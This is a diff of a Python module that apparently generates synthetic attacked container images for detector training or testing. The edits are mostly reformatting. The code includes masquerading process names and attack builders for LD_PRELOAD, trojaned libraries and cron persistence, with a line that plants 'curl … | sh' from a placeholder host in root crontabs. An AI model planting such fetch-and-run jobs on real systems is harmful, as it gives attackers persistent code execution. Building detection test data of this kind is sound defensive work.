@@ -10,16 +10,34 @@ import random
 from collections.abc import Callable, Mapping, Sequence
 from dataclasses import dataclass, replace
 
+from layerproof.testing.images import Dir, File, Node, Whiteout
 from learning.applications import Build, library, package_files, public_key
 from learning.cases import NO_ATTACK
 from learning.context_attacks import one_edit
 from learning.prepared import Prepared
 
-from layerproof.testing.images import Dir, File, Node, Whiteout
-
 # Names that would not stand out in a listing (T1036.005).
-PLAUSIBLE = ("sysmond", "dbus-helper", "netd", "logrotated", "kworker", "udevd2", "updater", "healthd")
-POPULAR = ("requests", "urllib3", "django", "flask", "numpy", "express", "lodash", "axios", "celery")
+PLAUSIBLE = (
+    "sysmond",
+    "dbus-helper",
+    "netd",
+    "logrotated",
+    "kworker",
+    "udevd2",
+    "updater",
+    "healthd",
+)
+POPULAR = (
+    "requests",
+    "urllib3",
+    "django",
+    "flask",
+    "numpy",
+    "express",
+    "lodash",
+    "axios",
+    "celery",
+)
 SECURITY = (
     "etc/apt/trusted.gpg.d/", "etc/security/", "etc/pam.d/", "usr/share/keyrings/",
     "etc/ca-certificates", "usr/share/ca-certificates/", "etc/apk/keys/", "etc/ssl/",
@@ -81,7 +99,9 @@ def ld_preload(build: Build, kit: Kit, chance: random.Random) -> Build:
 def cron(build: Build, kit: Kit, chance: random.Random) -> Build:
     """T1053.003: a job that fetches and runs."""
     name = chance.choice(PLAUSIBLE)
-    place = chance.choice((f"etc/cron.d/{name}", "var/spool/cron/crontabs/root", f"etc/cron.hourly/{name}"))
+    place = chance.choice(
+        (f"etc/cron.d/{name}", "var/spool/cron/crontabs/root", f"etc/cron.hourly/{name}")
+    )
     who = "root " if place.startswith("etc/cron.d") else ""
     line = f"*/{chance.randrange(2, 30)} * * * * {who}curl -s http://cdn.example/{name} | sh\n"
     if place.startswith("etc/cron.hourly"):
@@ -129,7 +149,8 @@ def trojaned_library(build: Build, kit: Kit, chance: random.Random) -> Build | N
     there = sorted(
         path
         for path, (size, _) in files.items()
-        if size > 4096 and (".so" in path.rpartition("/")[2] or "-packages/" in path)
+        if size > 4096
+        and (".so" in path.rpartition("/")[2] or "-packages/" in path)
         and not path.endswith(".pyc")
     )
     if not there:
